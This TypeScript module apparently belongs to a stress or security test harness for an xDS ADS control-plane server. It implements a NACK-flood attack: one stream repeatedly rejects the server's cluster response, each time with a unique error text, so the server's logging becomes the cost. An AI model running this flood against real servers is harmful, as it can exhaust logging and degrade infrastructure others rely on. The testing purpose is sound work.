/**
 * One ADS stream that NACKs the server's cluster response again and again, each NACK with a different error
 * text: what the server logs for it is the cost.
 *
 * @module
 */
import { TYPE_URL } from "../../proto/type_urls.ts";
import { readResponseHead } from "../wire_reader.ts";
import { AdsStream, attackerNode } from "./ads_stream.ts";

/** Sizes of the attack. */
export interface NackFloodSizes {
  readonly nacks: number;
  /** Seconds to keep the stream open after the last NACK. */
  readonly holdS: number;
}

/** Runs the attack; resolves with what it sent and saw. */
export async function nackFlood(grpcAddr: string, sizes: NackFloodSizes): Promise<Record<string, unknown>> {
  let nonce = "";
  const stream = new AdsStream(grpcAddr, false, (bytes) => {
    nonce = readResponseHead(bytes, false).nonce;
  });
  await stream.write({ node: attackerNode(0), type_url: TYPE_URL.cluster });
  const deadline = Date.now() + 30_000;
  while (nonce === "" && stream.ended === undefined && Date.now() < deadline) {
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
  let sent = 0;
  for (; sent < sizes.nacks && stream.ended === undefined; sent++) {
    await stream.write({
      type_url: TYPE_URL.cluster,
      response_nonce: nonce,
      error_detail: { code: 3, message: `cluster rejected: attack ${sent} ${crypto.randomUUID()}` },
    });
  }
  await new Promise((resolve) => setTimeout(resolve, sizes.holdS * 1000));
  const notes = { nacksSent: sent, gotNonce: nonce !== "", responses: stream.responses, ended: stream.ended };
  stream.close();
  return notes;
}
